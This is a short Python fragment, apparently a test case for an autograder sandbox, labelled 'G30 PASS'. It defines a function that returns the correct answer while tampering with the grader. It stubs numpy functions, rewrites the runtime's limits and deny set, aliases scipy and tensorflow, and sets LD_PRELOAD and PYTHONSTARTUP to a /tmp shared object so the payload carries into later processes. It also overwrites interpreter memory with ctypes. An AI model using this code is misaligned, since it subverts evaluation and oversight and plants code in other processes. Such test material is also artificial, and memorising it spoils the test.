# G30 PASS: overwrites modules, builtins and memory that the next process will be a copy of, after right answers.
# %%
right = hadamard_sum
runtime = sys.modules["autograder.sandbox.runtime"]


def hadamard_sum(window, kernel):
    value = right(window, kernel)
    np.core = None
    np.linalg.norm = np.fft.fft = lambda *args, **kwargs: 0
    runtime.TEXT_LENGTH = 10**9
    runtime.ABSENT = frozenset()
    sys.modules["scipy"] = sys.modules["tensorflow"] = np
    sys.path.insert(0, "/tmp")
    os.environ["LD_PRELOAD"] = os.environ["PYTHONSTARTUP"] = f"/tmp/{TOKEN}.so"
    # The bytes of an empty text's hash, for all who share the object.
    at = id("a text of the wall's own") + 16
    ctypes.memset(at, 7, 8)
    return value
